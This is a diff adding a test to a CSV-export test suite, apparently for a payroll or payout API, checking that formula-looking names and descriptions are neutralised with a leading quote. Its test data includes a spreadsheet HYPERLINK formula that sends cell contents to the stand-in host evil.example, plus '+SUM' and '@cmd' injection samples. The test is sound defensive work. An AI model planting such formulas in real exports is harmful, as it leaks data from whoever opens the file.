@@ -98,6 +98,22 @@ describe("CSV exports", () => {
   });
 });
 
+describe("CSV exports neutralise formulas", () => {
+  it("prefixes formula-looking names and descriptions with a quote in both exports, and keeps amounts as they are", async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    await post("/v2/employees/", "bulk-b", { id: "eve", name, email: "eve@example.se", country: "SWE" });
+    await post("/v2/payouts/", "bulk-b", { employee: "eve", amount: "12.50", currency: "SEK", description: "+SUM(1,2)" });
+    await post("/v2/payouts/", "bulk-b", { employee: "eve", amount: "1.00", currency: "SEK", description: "@cmd" });
+
+    const employees = parse((await client("bulk-b").employees.export({})).csv);
+    expect(employees.find((r) => r.id === "eve")?.name).toBe(`'${name}`);
+    const payouts = parse((await client("bulk-b").payouts.export({ search: "eve" })).csv);
+    expect(payouts.map((r) => r.description).sort()).toEqual(["'+SUM(1,2)", "'@cmd"]);
+    expect(payouts.every((r) => r.employee_name === `'${name}`)).toBe(true);
+    expect(payouts.map((r) => r.amount).sort()).toEqual(["1.00", "12.50"]);
+  });
+});
+
 describe("employees.resendMany", () => {
   it("resends what the once-a-day rule allows and reports the skipped ones with the time a resend is allowed", async () => {
     const first = await client("bulk-a").employees.resendMany({ employee_ids: ["ann", "bea"] });
